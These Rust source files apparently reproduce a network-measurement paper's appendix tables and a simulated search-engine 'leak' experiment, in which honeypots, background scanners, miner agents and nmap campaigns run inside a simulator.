            Need::Exact(ScenarioYear::Y2020).resolve(&opts),
            ScenarioYear::Y2020
        );
    }

    #[test]
    fn required_configs_dedupes_across_exhibits() {
        // The full registry needs exactly the three paper years by default.
        let opts = ExhibitOptions::default();
        let configs = required_configs(REGISTRY, &opts);
        let years: Vec<u16> = configs.iter().map(|c| c.year.year()).collect();
        assert_eq!(years, vec![2020, 2021, 2022]);
        for c in &configs {
            assert_eq!(c.seed, DEFAULT_SEED);
            assert_eq!(c.scale, 1.0);
        }
    }
}
