//! The Appendix C exhibits: other-year re-runs and cross-year stability.
//!
//! Each render is a byte-exact port of the retired single-purpose binary
//! of the same name. Single-year appendix exhibits default to their
//! appendix year but follow `--year`; cross-year exhibits (Table 14,
//! temporal stability) pin their years.

use super::{Exhibit, ExhibitCx, ExhibitOptions, Need, PlanRequest, SimBundle};
use crate::compare::CharKind;
use crate::dataset::TrafficSlice;
use crate::network::{cloud_cloud_cell, honeytrap_cell, NetworkCell, CLOUD_EDU_PAIRS};
use crate::report::{header_str, paper_note_str, phi_value, TextTable};
use crate::temporal::{stability_with, YearView};
use cw_honeypot::deployment::Deployment;
use cw_netsim::geo::RegionPairKind;
use cw_scanners::population::ScenarioYear;

/// Table 12 (Appendix C.1): neighborhood differences on 2020 data.
pub struct Table12;

impl Exhibit for Table12 {
    fn name(&self) -> &'static str {
        "table12"
    }
    fn title(&self) -> &'static str {
        "% neighborhoods with different traffic (2020)"
    }
    fn needs(&self) -> &'static [Need] {
        &[Need::Year(ScenarioYear::Y2020)]
    }
    fn plans(&self, _opts: &ExhibitOptions) -> Vec<PlanRequest> {
        PlanRequest::all_for(
            self.needs()[0],
            crate::neighborhood::table2_plans(&Deployment::standard()),
        )
    }
    fn run(&self, cx: &ExhibitCx<'_>) -> String {
        let mut out = header_str("Table 12: % neighborhoods with different traffic (2020)");
        out.push_str(&paper_note_str(
            "2020 shows the same phenomenon as 2021 with shifted magnitudes: SSH/22 AS 73% (0.23), \
             FracMal 60% (0.10), User 74% (0.20), Pwd 19% (0.24); Telnet/23 AS 43% (0.38); \
             HTTP/80 AS 2% (0.58); HTTP/All AS 61% (0.29), Payload 64% (0.50)",
        ));
        let rows = cx.table2_rows(self.needs()[0]);
        let mut t =
            TextTable::new(&["Slice", "Characteristic", "n", "% dif neighborhoods", "Avg phi"]);
        for r in rows {
            t.row(vec![
                r.slice.label().to_string(),
                r.characteristic.label().to_string(),
                r.n.to_string(),
                format!("{:.0}%", r.pct_different),
                phi_value(r.avg_phi, 1),
            ]);
        }
        out.push_str(&format!("{}\n", t.render()));
        out
    }
}

/// Table 13 (Appendix C.3): region-pair similarity on 2020 data.
pub struct Table13;

/// Table 13's per-slice characteristic lists, in render order.
const TABLE13_CELLS: &[(TrafficSlice, &[CharKind])] = &[
    (
        TrafficSlice::SshPort22,
        &[CharKind::TopAs, CharKind::FracMalicious, CharKind::TopUsername, CharKind::TopPassword],
    ),
    (
        TrafficSlice::TelnetPort23,
        &[CharKind::TopAs, CharKind::FracMalicious, CharKind::TopUsername, CharKind::TopPassword],
    ),
    (
        TrafficSlice::HttpPort80,
        &[CharKind::TopAs, CharKind::FracMalicious, CharKind::TopPayload],
    ),
    (
        TrafficSlice::HttpAllPorts,
        &[CharKind::TopAs, CharKind::FracMalicious, CharKind::TopPayload],
    ),
];

impl Exhibit for Table13 {
    fn name(&self) -> &'static str {
        "table13"
    }
    fn title(&self) -> &'static str {
        "% similar pairs of regions per bucket (2020)"
    }
    fn needs(&self) -> &'static [Need] {
        &[Need::Year(ScenarioYear::Y2020)]
    }
    fn plans(&self, _opts: &ExhibitOptions) -> Vec<PlanRequest> {
        let d = Deployment::standard();
        let mut plans = Vec::new();
        for &(slice, kinds) in TABLE13_CELLS {
            for &kind in kinds {
                plans.extend(crate::geography::table5_plans(&d, slice, kind));
            }
        }
        PlanRequest::all_for(self.needs()[0], plans)
    }
    fn run(&self, cx: &ExhibitCx<'_>) -> String {
        let d = Deployment::standard();
        let mut out = header_str("Table 13: % similar pairs of regions per bucket (2020)");
        out.push_str(&paper_note_str(
            "2020 keeps the APAC-least-similar shape (e.g. SSH/22 Top-AS: US 71, EU 42, APAC 30, IC 46)",
        ));
        let mut t = TextTable::new(&["Slice", "Characteristic", "US", "EU", "APAC", "Intercont."]);
        let exec = cx.exec(self.needs()[0]);
        for &(slice, kinds) in TABLE13_CELLS {
            for &kind in kinds {
                let cells = crate::geography::table5_with(&exec, &d, slice, kind);
                let find = |b: RegionPairKind| {
                    cells
                        .iter()
                        .find(|c| c.bucket == b)
                        .map(|c| format!("{:.0}%", c.pct_similar))
                        .unwrap_or_else(|| "-".into())
                };
                t.row(vec![
                    slice.label().to_string(),
                    kind.label().to_string(),
                    find(RegionPairKind::WithinUs),
                    find(RegionPairKind::WithinEu),
                    find(RegionPairKind::WithinApac),
                    find(RegionPairKind::Intercontinental),
                ]);
            }
        }
        out.push_str(&format!("{}\n", t.render()));
        out
    }
}

const TABLE14_GRID: &[(CharKind, TrafficSlice)] = &[
    (CharKind::TopAs, TrafficSlice::SshPort22),
    (CharKind::TopAs, TrafficSlice::TelnetPort23),
    (CharKind::TopAs, TrafficSlice::HttpPort80),
    (CharKind::TopAs, TrafficSlice::HttpAllPorts),
    (CharKind::TopUsername, TrafficSlice::SshPort22),
    (CharKind::TopUsername, TrafficSlice::TelnetPort23),
    (CharKind::TopPassword, TrafficSlice::TelnetPort23),
    (CharKind::TopPassword, TrafficSlice::SshPort22),
    (CharKind::TopPayload, TrafficSlice::HttpPort80),
    (CharKind::TopPayload, TrafficSlice::HttpAllPorts),
    (CharKind::FracMalicious, TrafficSlice::SshPort22),
    (CharKind::FracMalicious, TrafficSlice::TelnetPort23),
    (CharKind::FracMalicious, TrafficSlice::HttpPort80),
    (CharKind::FracMalicious, TrafficSlice::HttpAllPorts),
];

fn table14_cells(c: &NetworkCell) -> (String, String) {
    if c.uncomputable {
        ("×".into(), "×".into())
    } else {
        (format!("{}/{}", c.n_different, c.n), phi_value(c.avg_phi, 1))
    }
}

/// Per grid row: the cell-string pairs this year contributes (one CC pair
/// for 2020, CE then EE pairs for 2022).
fn table14_fold_year(s: &SimBundle, d: &Deployment) -> Vec<Vec<(String, String)>> {
    let edu_edu: [(&str, &str); 1] = [("honeytrap/stanford", "honeytrap/merit")];
    TABLE14_GRID
        .iter()
        .map(|&(kind, slice)| match s.config.year {
            ScenarioYear::Y2020 => {
                vec![table14_cells(&cloud_cloud_cell(&s.dataset, d, slice, kind, 0.05))]
            }
            _ => vec![
                table14_cells(&honeytrap_cell(&s.dataset, d, &CLOUD_EDU_PAIRS, slice, kind, 0.05)),
                table14_cells(&honeytrap_cell(&s.dataset, d, &edu_edu, slice, kind, 0.05)),
            ],
        })
        .collect()
}

/// Table 14 (Appendix C.2): network differences — Cloud–Cloud on 2020
/// data, Cloud–EDU and EDU–EDU on 2022 data.
pub struct Table14;

impl Exhibit for Table14 {
    fn name(&self) -> &'static str {
        "table14"
    }
    fn title(&self) -> &'static str {
        "Network differences across 2020/2022 data"
    }
    fn needs(&self) -> &'static [Need] {
        &[
            Need::Exact(ScenarioYear::Y2020),
            Need::Exact(ScenarioYear::Y2022),
        ]
    }
    fn run(&self, cx: &ExhibitCx<'_>) -> String {
        let d = Deployment::standard();
        let y2020 = table14_fold_year(cx.bundle(self.needs()[0]), &d);
        let y2022 = table14_fold_year(cx.bundle(self.needs()[1]), &d);

        let mut out = header_str("Table 14: Cloud-Cloud (2020) / Cloud-EDU (2022) / EDU-EDU (2022)");
        out.push_str(&paper_note_str(
            "scanners are more likely to partially avoid education networks than to prefer a \
             specific cloud; the 2022 Merit router-bruteforce anomaly yields a medium (0.34) \
             EDU-EDU payload difference",
        ));
        let mut t = TextTable::new(&[
            "Characteristic",
            "Slice",
            "CC'20 dif",
            "phi",
            "CE'22 dif",
            "phi",
            "EE'22 dif",
            "phi",
        ]);
        for (i, &(kind, slice)) in TABLE14_GRID.iter().enumerate() {
            let mut row = vec![kind.label().to_string(), slice.label().to_string()];
            for (a, b) in y2020[i].iter().chain(y2022[i].iter()) {
                row.push(a.clone());
                row.push(b.clone());
            }
            t.row(row);
        }
        out.push_str(&format!("{}\n", t.render()));
        out
    }
}

/// Table 15 (Appendix C.2): telescope-vs-X AS differences on 2022 data.
pub struct Table15;

impl Exhibit for Table15 {
    fn name(&self) -> &'static str {
        "table15"
    }
    fn title(&self) -> &'static str {
        "Telescope vs EDU / cloud differences (2022)"
    }
    fn needs(&self) -> &'static [Need] {
        &[Need::Year(ScenarioYear::Y2022)]
    }
    fn run(&self, cx: &ExhibitCx<'_>) -> String {
        let s = cx.bundle(self.needs()[0]);
        let d = Deployment::standard();
        let mut out = header_str("Table 15: telescope vs EDU / cloud, 2022 — preferences strengthen");
        out.push_str(&paper_note_str(
            "2022 effect sizes grow vs 2021 (e.g. Any/All: Tel-EDU 0.90, Tel-Cloud 0.89 vs 0.30 in 2021)",
        ));
        let tel = &s.telescope;
        let edu = ["honeytrap/stanford", "honeytrap/merit"];
        let cloud = ["honeytrap/aws-west", "honeytrap/google-west"];
        let mut t = TextTable::new(&[
            "Slice",
            "Tel-EDU dif",
            "avg phi",
            "Tel-Cloud dif",
            "avg phi",
        ]);
        for slice in [
            TrafficSlice::SshPort22,
            TrafficSlice::TelnetPort23,
            TrafficSlice::HttpPort80,
            TrafficSlice::AnyAll,
        ] {
            let run = |fleets: &[&str]| {
                let mut n = 0;
                let mut dif = 0;
                let mut phis = Vec::new();
                for f in fleets {
                    if let Some(cmp) = crate::network::telescope_vs_fleet(
                        &s.dataset,
                        &d,
                        tel,
                        f,
                        slice,
                        0.05,
                        fleets.len(),
                    ) {
                        n += 1;
                        if cmp.significant {
                            dif += 1;
                            phis.push(cmp.effect.phi);
                        }
                    }
                }
                (n, dif, cw_stats::descriptive::mean(&phis))
            };
            let (en, ed, ep) = run(&edu);
            let (cn, cd, cp) = run(&cloud);
            t.row(vec![
                slice.label().to_string(),
                format!("{ed}/{en}"),
                phi_value(ep, 1),
                format!("{cd}/{cn}"),
                phi_value(cp, 1),
            ]);
        }
        out.push_str(&format!("{}\n", t.render()));
        out
    }
}

/// Table 16 (Appendix C.3): geographic traffic patterns on 2020 data.
pub struct Table16;

impl Exhibit for Table16 {
    fn name(&self) -> &'static str {
        "table16"
    }
    fn title(&self) -> &'static str {
        "Most-different geographic regions (2020)"
    }
    fn needs(&self) -> &'static [Need] {
        &[Need::Year(ScenarioYear::Y2020)]
    }
    fn plans(&self, _opts: &ExhibitOptions) -> Vec<PlanRequest> {
        PlanRequest::all_for(
            self.needs()[0],
            crate::geography::table4_plans(&Deployment::standard()),
        )
    }
    fn run(&self, cx: &ExhibitCx<'_>) -> String {
        let mut out = header_str("Table 16: most-different geographic regions (2020)");
        out.push_str(&paper_note_str(
            "Asia-Pacific still dominates in 2020 (AWS SSH AP-JP 0.21, Google SSH AP-HK 0.37, \
             Linode SSH AP-SG 0.26, ...), with a few non-AP anomalies",
        ));
        let rows = cx.table4_rows(self.needs()[0]);
        let mut t =
            TextTable::new(&["Characteristic", "Slice", "Provider", "Most Dif. Region", "Avg phi"]);
        let mut ap = 0;
        let mut named = 0;
        for r in rows {
            if let Some(region) = &r.region {
                named += 1;
                if region.starts_with("AP-") {
                    ap += 1;
                }
            }
            t.row(vec![
                r.characteristic.label().to_string(),
                r.slice.label().to_string(),
                format!("{:?}", r.provider),
                r.region.clone().unwrap_or_else(|| "-".into()),
                phi_value(r.avg_phi, 1),
            ]);
        }
        out.push_str(&format!("{}\n", t.render()));
        out.push_str(&format!(
            "Asia-Pacific share of most-different regions: {ap}/{named}\n"
        ));
        out
    }
}

/// Table 17 (Appendix C.4): unexpected protocols on 2022 data.
pub struct Table17;

impl Exhibit for Table17 {
    fn name(&self) -> &'static str {
        "table17"
    }
    fn title(&self) -> &'static str {
        "Protocol breakdown on ports 80/8080 (2022)"
    }
    fn needs(&self) -> &'static [Need] {
        &[Need::Year(ScenarioYear::Y2022)]
    }
    fn plans(&self, _opts: &ExhibitOptions) -> Vec<PlanRequest> {
        let d = Deployment::standard();
        PlanRequest::all_for(
            self.needs()[0],
            [80u16, 8080]
                .into_iter()
                .flat_map(|port| crate::ports::protocol_breakdown_plans(&d, port))
                .collect(),
        )
    }
    fn run(&self, cx: &ExhibitCx<'_>) -> String {
        let mut out = header_str("Table 17: protocol breakdown on ports 80/8080 (2022)");
        out.push_str(&paper_note_str(
            "the unexpected share roughly doubles vs 2021: HTTP/80 66% vs ~HTTP/80 34%; \
             HTTP/8080 66% vs ~HTTP/8080 34% (no reputation split — the GreyNoise feed ended)",
        ));
        let mut t = TextTable::new(&["Protocol/Port", "Breakdown", "Scanners"]);
        for port in [80u16, 8080] {
            let (rows, _) = cx.breakdown(self.needs()[0], port);
            for r in rows {
                t.row(vec![
                    format!("{}HTTP/{}", if r.is_http { "" } else { "~" }, port),
                    format!("{:.0}%", r.pct_of_scanners),
                    r.scanners.to_string(),
                ]);
            }
        }
        out.push_str(&format!("{}\n", t.render()));
        out
    }
}

/// §3.4 / Appendix C: temporal stability of attacker preferences.
pub struct TemporalStability;

impl Exhibit for TemporalStability {
    fn name(&self) -> &'static str {
        "temporal_stability"
    }
    fn title(&self) -> &'static str {
        "Temporal stability of preferences, 2021 vs 2020"
    }
    fn needs(&self) -> &'static [Need] {
        &[
            Need::Exact(ScenarioYear::Y2021),
            Need::Exact(ScenarioYear::Y2020),
        ]
    }
    fn plans(&self, _opts: &ExhibitOptions) -> Vec<PlanRequest> {
        let d = Deployment::standard();
        self.needs()
            .iter()
            .flat_map(|&need| {
                PlanRequest::all_for(need, crate::overlap::table8_and_9_plans(&d))
            })
            .collect()
    }
    fn run(&self, cx: &ExhibitCx<'_>) -> String {
        let a = cx.bundle(self.needs()[0]);
        let b = cx.bundle(self.needs()[1]);
        let d = Deployment::standard();
        let mut out = header_str("Temporal stability: 2021 vs 2020");
        out.push_str(&paper_note_str(
            "\"attackers and scanners broadly exhibit similar preferences between 2020-2022\"; \
             the biggest differences lie in one-off anomalous events",
        ));
        let r = stability_with(
            &d,
            YearView {
                year: a.config.year.year(),
                dataset: &a.dataset,
                telescope: &a.telescope,
            },
            YearView {
                year: b.config.year.year(),
                dataset: &b.dataset,
                telescope: &b.telescope,
            },
            cx.table8_rows(self.needs()[0]),
            cx.table8_rows(self.needs()[1]),
        );
        out.push_str(&format!(
            "per-region top-3 Telnet AS similarity (Jaccard): {:.2} over {} regions\n\n",
            r.top_as_jaccard, r.regions_compared
        ));
        let mut t = TextTable::new(&["Port", "Tel∩Cloud 2021", "Tel∩Cloud 2020"]);
        for (port, y1, y0) in &r.telescope_overlap {
            t.row(vec![
                port.to_string(),
                y1.map(|v| format!("{v:.0}%")).unwrap_or_else(|| "-".into()),
                y0.map(|v| format!("{v:.0}%")).unwrap_or_else(|| "-".into()),
            ]);
        }
        out.push_str(&format!("{}\n", t.render()));
        out
    }
}
