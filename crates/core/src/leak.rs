//! Table 3: the Internet-service search-engine leak experiment (§4.3).
//!
//! A standalone harness (the paper ran it on a dedicated Stanford block, not
//! in the cloud, because it needs untainted IP histories):
//!
//! - **Control** — 8 IPs, services hidden from Censys and Shodan;
//! - **Previously leaked** — 7 recycled IPs whose *old* HTTP/80 service is
//!   still in both indexes (historical entries), engines blocked now;
//! - **Leaked** — 18 IPs in six groups of 3: exactly one engine is allowed
//!   to discover exactly one service (HTTP/80, SSH/22 or Telnet/23).
//!
//! Every IP emulates all three services. Background scanners provide the
//! baseline; miner agents query the indexes and burst at listings; the
//! Avast/M247/CDN77 nmap campaigns probe HTTP while avoiding live Censys
//! listings. Censys/Shodan's own traffic is excluded from all statistics,
//! exactly as in the paper.

use cw_detection::{RuleSet, Verdict};
use cw_honeypot::capture::{Capture, Observed};
use cw_honeypot::deployment::Deployment;
use cw_honeypot::framework::{HoneypotListener, ListenerFaults, Persona, PortPolicy};
use cw_netsim::engine::Engine;
use cw_netsim::fault::{domain_salt, FaultDomain, FaultPlan, OutageSchedule};
use cw_netsim::flow::{ConnectionIntent, LoginService};
use cw_netsim::rng::SimRng;
use cw_netsim::time::{SimDuration, SimTime};
use cw_scanners::campaign::{Campaign, Pacing};
use cw_scanners::identity::{ActorIdentity, SrcAllocator};
use cw_scanners::miner::{MinerAgent, MinerAttack};
use cw_scanners::nmap::NmapCampaign;
use cw_scanners::search_engine::{IndexerAgent, SearchEngine, SearchIndex, SharedIndex};
use cw_stats::Alternative;
use std::cell::RefCell;
use std::collections::BTreeMap;
use std::net::Ipv4Addr;
use std::rc::Rc;

/// The emulated service a leak cell is about.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum LeakService {
    /// HTTP on port 80.
    Http80,
    /// SSH on port 22.
    Ssh22,
    /// Telnet on port 23.
    Telnet23,
}

impl LeakService {
    /// All three services.
    pub const ALL: [LeakService; 3] = [LeakService::Http80, LeakService::Ssh22, LeakService::Telnet23];

    /// The service port.
    pub fn port(&self) -> u16 {
        match self {
            LeakService::Http80 => 80,
            LeakService::Ssh22 => 22,
            LeakService::Telnet23 => 23,
        }
    }

    /// Display label.
    pub fn label(&self) -> &'static str {
        match self {
            LeakService::Http80 => "HTTP/80",
            LeakService::Ssh22 => "SSH/22",
            LeakService::Telnet23 => "Telnet/23",
        }
    }
}

/// The experiment groups.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum LeakGroup {
    /// Never indexed.
    Control,
    /// Stale HTTP/80 entries in both indexes.
    PreviouslyLeaked,
    /// One service leaked to Censys.
    CensysLeaked(LeakService),
    /// One service leaked to Shodan.
    ShodanLeaked(LeakService),
}

/// One Table 3 cell: fold increase + significance markers.
#[derive(Debug, Clone, Copy)]
pub struct LeakCell {
    /// The service row.
    pub service: LeakService,
    /// The treatment group column.
    pub group: LeakGroup,
    /// True for the malicious-traffic sub-row.
    pub malicious_only: bool,
    /// Fold increase in traffic per hour over the control group.
    pub fold: f64,
    /// One-sided Mann–Whitney U: treatment stochastically greater (bold in
    /// the paper).
    pub mwu_significant: bool,
    /// Kolmogorov–Smirnov: the hourly distribution differs (spikes; the
    /// paper's *).
    pub ks_different: bool,
}

/// The experiment output.
pub struct LeakOutcome {
    /// All Table 3 cells.
    pub cells: Vec<LeakCell>,
    /// Per (group, service): total events per hour over the window.
    pub hourly: BTreeMap<(LeakGroup, LeakService), Vec<f64>>,
    /// Mean unique passwords attempted per leaked vs control SSH service.
    pub ssh_unique_passwords: (f64, f64),
}

impl LeakOutcome {
    /// Burstiness profile of one group/service hourly series — the explicit
    /// version of the paper's manually verified "spikes" (§4.3).
    pub fn spike_profile(
        &self,
        group: LeakGroup,
        service: LeakService,
    ) -> Option<cw_stats::SpikeProfile> {
        self.hourly
            .get(&(group, service))
            .map(|h| cw_stats::spike_profile(h))
    }
}

/// Experiment configuration.
#[derive(Debug, Clone, Copy)]
pub struct LeakConfig {
    /// Seed for the harness.
    pub seed: u64,
    /// Background/miner volume scale.
    pub scale: f64,
    /// Window length.
    pub horizon: SimDuration,
    /// Deterministic fault plan (loss, outages, truncation) applied to the
    /// leak world, derived from this config's own seed. The leak harness
    /// has no telescope, so `telescope_sample` is ignored here.
    pub fault: FaultPlan,
}

impl Default for LeakConfig {
    fn default() -> Self {
        LeakConfig {
            seed: crate::scenario::DEFAULT_SEED ^ 0x1EA4,
            scale: 1.0,
            horizon: SimDuration::WEEK,
            fault: FaultPlan::none(),
        }
    }
}

struct Fleet {
    group: LeakGroup,
    ips: Vec<Ipv4Addr>,
    capture: Rc<RefCell<Capture>>,
}

fn build_leak_honeypot(name: &str, ips: &[Ipv4Addr]) -> HoneypotListener {
    HoneypotListener::new(name, ips.iter().copied(), PortPolicy::Closed)
        .with_policy(22, PortPolicy::Interactive(LoginService::Ssh))
        .with_policy(23, PortPolicy::Interactive(LoginService::Telnet))
        .with_policy(80, PortPolicy::FirstPayload)
        .with_persona(80, Persona::http())
}

/// Run the leak experiment.
pub fn run(config: &LeakConfig) -> LeakOutcome {
    let deployment = Deployment::standard();
    let block = deployment
        .topology
        .block("leak/stanford")
        .expect("leak block allocated")
        .clone();
    let root = SimRng::seed_from_u64(config.seed);
    let mut alloc = SrcAllocator::new();
    let mut engine = Engine::new();

    // Deterministic fault wiring: same domain-salt layout as the scenario
    // path (see cw_netsim::fault), derived from the leak harness's own
    // seed so the leak world degrades independently of the year worlds.
    if !config.fault.is_none() {
        config.fault.validate();
        engine.set_flow_loss(
            config.fault.flow_loss,
            domain_salt(config.seed, FaultDomain::FlowLoss),
        );
    }
    let outage_salt = domain_salt(config.seed, FaultDomain::Outage);
    let trunc_salt = domain_salt(config.seed, FaultDomain::Truncation);

    // Indexes and engine sources.
    let censys: SharedIndex = Rc::new(RefCell::new(SearchIndex::new()));
    let shodan: SharedIndex = Rc::new(RefCell::new(SearchIndex::new()));
    let censys_srcs = alloc.alloc(6);
    let shodan_srcs = alloc.alloc(6);

    // --- Fleets -----------------------------------------------------------
    let mut fleets: Vec<Fleet> = Vec::new();
    let mut cursor = 0u64;
    let mut take = |n: u64| -> Vec<Ipv4Addr> {
        let out = (cursor..cursor + n).map(|i| block.nth(i)).collect();
        cursor += n;
        out
    };

    let groups: Vec<(LeakGroup, u64)> = {
        let mut g = vec![(LeakGroup::Control, 8), (LeakGroup::PreviouslyLeaked, 7)];
        for svc in LeakService::ALL {
            g.push((LeakGroup::CensysLeaked(svc), 3));
            g.push((LeakGroup::ShodanLeaked(svc), 3));
        }
        g
    };
    for (fleet_index, (group, n)) in groups.into_iter().enumerate() {
        let ips = take(n);
        let mut hp = build_leak_honeypot(&format!("leak/{group:?}"), &ips);
        if !config.fault.is_none() {
            // Per-fleet vantage index, mirroring the scenario layout where
            // each capture point owns an independent outage schedule.
            hp.set_faults(ListenerFaults {
                outage: OutageSchedule::derive(
                    outage_salt,
                    fleet_index as u64,
                    config.horizon,
                    config.fault.outage,
                    config.fault.outage_windows,
                ),
                truncation: config.fault.truncation,
                truncate_to: config.fault.truncate_to,
                trunc_salt,
            });
        }
        // Engine visibility per group.
        match group {
            LeakGroup::Control | LeakGroup::PreviouslyLeaked => {
                for src in censys_srcs.iter().chain(&shodan_srcs) {
                    hp.block_source(*src);
                }
            }
            LeakGroup::CensysLeaked(svc) => {
                for src in &censys_srcs {
                    hp.block_source_except(*src, &[svc.port()]);
                }
                for src in &shodan_srcs {
                    hp.block_source(*src);
                }
            }
            LeakGroup::ShodanLeaked(svc) => {
                for src in &shodan_srcs {
                    hp.block_source_except(*src, &[svc.port()]);
                }
                for src in &censys_srcs {
                    hp.block_source(*src);
                }
            }
        }
        if group == LeakGroup::PreviouslyLeaked {
            for ip in &ips {
                censys.borrow_mut().seed_historical(*ip, 80, "HTTP");
                shodan.borrow_mut().seed_historical(*ip, 80, "HTTP");
            }
        }
        let listener = Rc::new(RefCell::new(hp));
        let capture = listener.borrow().capture();
        engine.add_listener(listener);
        fleets.push(Fleet {
            group,
            ips,
            capture,
        });
    }
    let all_ips: Vec<Ipv4Addr> = fleets.iter().flat_map(|f| f.ips.clone()).collect();

    // --- Agents -----------------------------------------------------------
    // Indexers sweep the leak block on the three service ports.
    {
        let rng = root.derive("leak/indexers");
        let censys_agent = IndexerAgent::new(
            ActorIdentity::new("censys", cw_netsim::asn::Asn(398_324), "US", censys_srcs.clone()),
            rng.derive("censys"),
            censys.clone(),
            all_ips.clone(),
            vec![80, 22, 23],
            SimDuration::DAY,
            0.0,
        );
        let shodan_agent = IndexerAgent::new(
            ActorIdentity::new("shodan", cw_netsim::asn::Asn(10_439), "US", shodan_srcs.clone()),
            rng.derive("shodan"),
            shodan.clone(),
            all_ips.clone(),
            vec![80, 22, 23],
            SimDuration::DAY,
            0.0,
        );
        engine.add_agent(Box::new(censys_agent), SimTime(1_800));
        engine.add_agent(Box::new(shodan_agent), SimTime(5_400));
    }

    // Background scanners: uniform over the whole block, per service. They
    // set the control group's baseline.
    {
        let rng = root.derive("leak/background");
        let scale = config.scale;
        let scaled = |n: usize| ((n as f64 * scale).round() as usize).max(1);
        // (name, port, campaigns, contacts/ip, login service or payload)
        for i in 0..scaled(25) {
            let srcs = alloc.alloc(1);
            let mut crng = rng.derive(&format!("bg-http/{i}"));
            let mut targets = Vec::new();
            for ip in &all_ips {
                for _ in 0..2 {
                    targets.push((*ip, 80u16));
                }
            }
            crng.shuffle(&mut targets);
            let malicious = i % 2 == 0;
            let pacing = Pacing::spread(&mut crng, targets.len(), config.horizon);
            let c = Campaign::new(
                ActorIdentity::new(&format!("bg-http/{i}"), cw_netsim::asn::Asn(64_600 + i as u32), "US", srcs),
                crng,
                targets,
                pacing,
                Box::new(move |_, _, _| {
                    ConnectionIntent::Payload(if malicious {
                        cw_scanners::exploits::thinkphp_rce()
                    } else {
                        cw_scanners::exploits::benign_get("zgrab/0.x")
                    })
                }),
            );
            let start = c.start_time();
            engine.add_agent(Box::new(c), start);
        }
        for (svc, count, per_ip) in [
            (LoginService::Ssh, scaled(20), 2usize),
            (LoginService::Telnet, scaled(20), 2),
        ] {
            let port = if svc == LoginService::Ssh { 22 } else { 23 };
            for i in 0..count {
                let srcs = alloc.alloc(1);
                let mut crng = rng.derive(&format!("bg-login/{port}/{i}"));
                let mut targets = Vec::new();
                for ip in &all_ips {
                    for _ in 0..per_ip {
                        targets.push((*ip, port));
                    }
                }
                crng.shuffle(&mut targets);
                let pacing = Pacing::spread(&mut crng, targets.len(), config.horizon);
                let dict: &'static [(&'static str, &'static str)] = match svc {
                    LoginService::Ssh => cw_scanners::credentials::SSH_GLOBAL,
                    LoginService::Telnet => cw_scanners::credentials::TELNET_GLOBAL,
                };
                let c = Campaign::new(
                    ActorIdentity::new(
                        &format!("bg-login/{port}/{i}"),
                        cw_netsim::asn::Asn(64_700 + i as u32),
                        "CN",
                        srcs,
                    ),
                    crng,
                    targets,
                    pacing,
                    cw_scanners::campaign::login_from_dictionary(svc, dict),
                );
                let start = c.start_time();
                engine.add_agent(Box::new(c), start);
            }
        }
    }

    // Miners: HTTP miners lean Censys, SSH miners lean Shodan, Telnet both
    // (Table 3's engine preferences).
    {
        let mut rng = root.derive("leak/miners");
        let specs: Vec<(&str, SearchEngine, MinerAttack, f64)> = vec![
            ("miner/c-http-0", SearchEngine::Censys, MinerAttack::HttpExploits { attempts: 5 }, 0.5),
            ("miner/c-http-1", SearchEngine::Censys, MinerAttack::HttpExploits { attempts: 5 }, 0.5),
            ("miner/c-http-2", SearchEngine::Censys, MinerAttack::HttpExploits { attempts: 4 }, 0.4),
            ("miner/c-http-3", SearchEngine::Censys, MinerAttack::HttpExploits { attempts: 4 }, 0.4),
            ("miner/s-http-0", SearchEngine::Shodan, MinerAttack::HttpExploits { attempts: 5 }, 0.6),
            ("miner/s-http-1", SearchEngine::Shodan, MinerAttack::HttpExploits { attempts: 5 }, 0.6),
            ("miner/s-http-2", SearchEngine::Shodan, MinerAttack::HttpExploits { attempts: 5 }, 0.6),
            ("miner/s-http-3", SearchEngine::Shodan, MinerAttack::HttpExploits { attempts: 5 }, 0.6),
            ("miner/s-http-4", SearchEngine::Shodan, MinerAttack::HttpExploits { attempts: 4 }, 0.6),
            ("miner/s-ssh-0", SearchEngine::Shodan, MinerAttack::SshBruteforce { attempts: 8 }, 0.5),
            ("miner/s-ssh-1", SearchEngine::Shodan, MinerAttack::SshBruteforce { attempts: 7 }, 0.5),
            ("miner/s-ssh-2", SearchEngine::Shodan, MinerAttack::SshBruteforce { attempts: 6 }, 0.4),
            ("miner/c-ssh-0", SearchEngine::Censys, MinerAttack::SshBruteforce { attempts: 7 }, 0.4),
            ("miner/c-ssh-1", SearchEngine::Censys, MinerAttack::SshBruteforce { attempts: 6 }, 0.4),
            ("miner/c-telnet-0", SearchEngine::Censys, MinerAttack::TelnetBruteforce { attempts: 4 }, 0.3),
            ("miner/c-telnet-1", SearchEngine::Censys, MinerAttack::TelnetBruteforce { attempts: 4 }, 0.3),
            ("miner/s-telnet-0", SearchEngine::Shodan, MinerAttack::TelnetBruteforce { attempts: 3 }, 0.3),
        ];
        for (name, eng, attack, repeat) in specs {
            let srcs = alloc.alloc(3);
            let (index, asn) = match eng {
                SearchEngine::Censys => (censys.clone(), cw_netsim::asn::Asn(4134)),
                SearchEngine::Shodan => (shodan.clone(), cw_netsim::asn::Asn(56_046)),
            };
            let miner = MinerAgent::new(
                ActorIdentity::new(name, asn, "CN", srcs),
                rng.derive(name),
                index,
                attack,
                SimDuration::from_secs(5 * 3600),
                true,
            )
            .with_scope(all_ips.clone())
            .with_repeat_probability(repeat);
            engine.add_agent(Box::new(miner), SimTime(3 * 3600 + rng.below(3600)));
        }
    }

    // The nmap campaigns (Avast, M247, CDN77).
    {
        let rng = root.derive("leak/nmap");
        for (name, asn, country) in [
            ("avast-nmap", 198_605u32, "CZ"),
            ("m247-nmap", 9_009, "GB"),
            ("cdn77-nmap", 60_068, "GB"),
        ] {
            let srcs = alloc.alloc(2);
            let campaign = NmapCampaign::new(
                ActorIdentity::new(name, cw_netsim::asn::Asn(asn), country, srcs),
                rng.derive(name),
                censys.clone(),
                all_ips.clone(),
                SimDuration::DAY,
                6,
            );
            engine.add_agent(Box::new(campaign), SimTime(12 * 3600));
        }
    }

    engine.run(SimTime::ZERO + config.horizon);

    // --- Analysis -----------------------------------------------------------
    let rules = RuleSet::builtin_cached();
    let hours = config.horizon.hours() as usize;
    let excluded: std::collections::BTreeSet<Ipv4Addr> =
        censys_srcs.iter().chain(&shodan_srcs).copied().collect();

    // Per (group, service): hourly event counts normalized per IP.
    let mut hourly: BTreeMap<(LeakGroup, LeakService), Vec<f64>> = BTreeMap::new();
